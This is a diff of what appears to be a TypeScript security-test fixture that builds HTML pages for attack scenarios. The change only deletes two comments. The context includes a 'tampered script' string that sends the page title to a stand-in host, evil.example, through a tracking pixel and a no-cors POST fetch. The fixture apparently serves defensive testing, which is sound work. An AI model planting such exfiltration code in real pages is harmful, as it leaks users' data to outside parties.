@@ -87,14 +87,12 @@ const insert = `
 const integrity = `sha384-${createHash('sha384').update(insert).digest('base64')}`;
 const head = `<!doctype html><meta charset="utf-8"><title>Fixture</title><h1>Fixture</h1><div id="place"></div>`;
 
-/** Unchanged, parsed or inserted by a script. */
 function drawAsItIs({ html }: Attack, way: 'parsed' | 'inserted') {
   if (way === 'parsed') return head + html;
   const data = JSON.stringify(html).replaceAll('<', String.raw`\u003c`);
   return `${head}<script type="application/json" id="content">${data}</script><script src="/insert.js" integrity="${integrity}" crossorigin="anonymous"></script>`;
 }
 
-/** In a tampered script of the page. */
 const track = `
   new Image().src = 'https://evil.example/pixel.png?' + document.title;
   fetch('https://evil.example/data', { method: 'POST', mode: 'no-cors', body: document.title }).catch(() => {});
